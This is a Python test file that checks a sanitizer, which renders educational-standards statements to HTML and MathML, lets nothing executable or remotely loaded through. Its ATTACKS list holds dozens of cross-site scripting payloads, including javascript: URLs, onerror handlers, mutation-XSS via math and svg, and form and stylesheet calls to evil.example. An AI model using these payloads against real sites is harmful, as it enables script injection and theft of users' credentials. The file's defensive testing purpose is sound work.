"""Statements as published are shown safely, whole, and without surprises."""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.interop.case.small import real

from trellis.framework.maths import latex_to_mathml, latex_to_text
from trellis.framework.statements import ATTRIBUTES, TAGS, plain_statement, render_statement

MATHS = frozenset(
    [
        "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "ms", "msup", "msub", "msubsup", "munder", "mover",
        "munderover", "mmultiscripts", "mprescripts", "none", "mfrac", "msqrt", "mroot", "mfenced", "menclose",
        "mpadded", "mphantom", "mstyle", "mtable", "mtr", "mtd", "mlabeledtr",
    ]
)  # fmt: skip
NEVER = {"style", "class", "id", "href", "src", "srcdoc", "xlink:href", "actiontype", "action", "formaction"}


class Inspector(HTMLParser):
    """Reads HTML as a browser would and complains about everything that could run, load or restyle."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS | MATHS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            allowed = {*ATTRIBUTES.get(tag, ()), *(["rel"] if tag == "a" else [])}
            if tag in TAGS and name not in allowed:
                self.wrong.append(f"<{tag} {name}>")
            if tag in MATHS and (name in NEVER or name.startswith("on")):
                self.wrong.append(f"<{tag} {name}>")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.wrong.append(f"href={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def wrong_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.wrong


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title=\"--><img src=x onerror=alert(1)>\">x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a style='background:url(javascript:alert(1))' onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://ok.example \"a\\\" onmouseover=alert(1)\")",
    "![x](https://evil.example/pixel.gif)",
    "![x\" onerror=\"alert(1)](x)",
    "<https://ok.example/\"onmouseover=alert(1)>",
    "<javascript:alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<b id=main class=button name=cookie>clobber</b>",
    "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$<script>alert(1)</script>$",
    "$x<img src=x onerror=alert(1)>$",
    "$$</math><script>alert(1)</script>$$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{button}{x}$ $\cssId{main}{x}$",
    r"$\color{red;background:url(//evil.example)}{x}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\require{action}\mathtip{x}{y}$",
    "$\"onmouseover=alert(1) x=\"$",
    "$x$\"><script>alert(1)</script>",
    "\\(<script>alert(1)</script>\\) \\[<img src=x onerror=alert(1)>\\]",
    "\ue0000\ue001<script>\ue000999\ue001</script>",
    "<a href='https://x.example/\ue0000\ue001'>$x$</a>",
    "<a title='$x^2$' href='https://x.example'>t</a>",
    "<abbr title='\\(<img src=x onerror=alert(1)>\\)'>t</abbr>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x oner\x00ror=alert(1)>",
    "\ud800<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_restyles_comes_through(attack):
    for text in (attack, f"before {attack} after", f"*{attack}*", f"- {attack}\n- {attack}", attack * 3):
        assert wrong_in(render_statement(text)) == []


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "$", "\\(", "\\)", "`", "*", "<", ">", "&", "\n\n", "|", '"', "x^2"]), max_size=6
    )
)
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_attacks_comes_through(parts):
    assert wrong_in(render_statement("".join(parts))) == []


@given(st.text(max_size=120))
@settings(max_examples=300, deadline=None)
def test_any_text_can_be_shown(text):
    assert wrong_in(render_statement(text)) == []
    assert "\n" not in plain_statement(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Count to ten", "Count to ten"),
        ("Ratios & rates", "Ratios &amp; rates"),
        ("  spaces around ", "spaces around"),
        ("Know *and* **use**", "Know <em>and</em> <strong>use</strong>"),
        ("<em>For example</em>, 3<sup>-5</sup>", "<em>For example</em>, 3<sup>-5</sup>"),
        ("x > c or x < c", "x &gt; c or x &lt; c"),
        ("a<b and c>d", "a&lt;b and c&gt;d"),
        ("find x<y>z", "find x&lt;y&gt;z"),
        ("5 = _ - 3, 6 + 6 = _.", "5 = _ - 3, 6 + 6 = _."),
        ("$5 and $6", "$5 and $6"),
        ("paid $50 per week plus $3 per sale", "paid $50 per week plus $3 per sale"),
        ("$5-$10", "$5-$10"),
        ("using $ and ¢ symbols", "using $ and ¢ symbols"),
        (r"it costs \$5", "it costs $5"),
        ("`$x$`", "<code>$x$</code>"),
        (r"$\frac{1}$", r"<code>\frac{1}</code>"),
        (r"$\unknowncommand x$", r"<code>\unknowncommand x</code>"),
        ("$" + "{" * 200 + "$", "<code>" + "{" * 200 + "</code>"),
        ("<p>One</p>", "One"),
        ("One\n\nTwo", "<p>One</p>\n<p>Two</p>"),
        ("<script>alert(1)</script>Hello", "Hello"),
        ("", ""),
    ],
)
def test_what_is_published_is_what_is_shown(text, html):
    assert render_statement(text) == html


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("Know *and* **use**", "Know and use"),
        ("3<sup>-5</sup> is 1/3<sup>5</sup>", "3⁻⁵ is 1/3⁵"),
        ("v<sub>x</sub> and a<sup>1/2</sup>", "v_x and a^(1/2)"),
        ("x > c &amp; y", "x > c & y"),
        ("First.\n\n| a | b |\n|---|---|\n| c | d |", "First. a b c d"),
        (r"Use $x = \frac{-b \pm \sqrt{b^2-4ac}}{2a}$", "Use x = (-b ± √(b^2-4ac))/(2a)"),
        ("Pay $5 and $6", "Pay $5 and $6"),
        ("<script>alert(1)</script>", ""),
    ],
)
def test_the_plain_form_is_one_readable_line(text, plain):
    assert plain_statement(text) == plain


def test_maths_becomes_mathml():
    html = render_statement(r"Solve $x = {-b \pm \sqrt{b^2-4ac} \over 2a}$")
    assert html.startswith('Solve <math alttext="x = ')
    assert "<msqrt>" in html
    assert "<mfrac>" in html
    assert render_statement("$$x^2$$").startswith('<math display="block"')
    assert render_statement(r"\(x^2\)") == render_statement("$x^2$")


def test_a_table_stays_a_table():
    html = render_statement("A _table_:\r\n\r\n| Column 1 | Column 2 |\r\n| --- | --- |\r\n| data 1 | $x^2$|\r\n")
    assert "<th>Column 1</th>" in html
    assert "<td><math" in html


def test_broken_maths_says_so_to_its_caller():
    assert latex_to_mathml(r"\frac{1}") is None
    assert latex_to_mathml("{" * 1000) is None
    assert latex_to_text(r"\frac{a}{b} \times x^{2}") == "a/b × x^2"


def test_common_core_is_shown_in_well_under_a_second():
    package = json.loads(real("standards/ccss-math-case/ccss-math-2010.json").read_bytes())
    statements = [item["fullStatement"] for item in package["CFItems"]]
    start = time.process_time()
    rendered = [render_statement(statement) for statement in statements]
    plain = [plain_statement(statement) for statement in statements]
    assert time.process_time() - start < 1
    assert [html for html in rendered if wrong_in(html)] == []
    assert [text for text in plain if "<em>" in text or "<su" in text or not text] == []
    assert sum("<math" in html for html in rendered) == 0  # its dollars are money


@pytest.mark.parametrize("part", ["*", "[", "![", "$x", "\\(", "**a", "*a_", "a|b\n-|-\n", "> ", "<a ", "`", "[a]("])
def test_a_text_made_to_take_long_does_not(part):
    start = time.process_time()
    render_statement(part * 100_000)
    plain_statement(part * 100_000)
    assert time.process_time() - start < 3
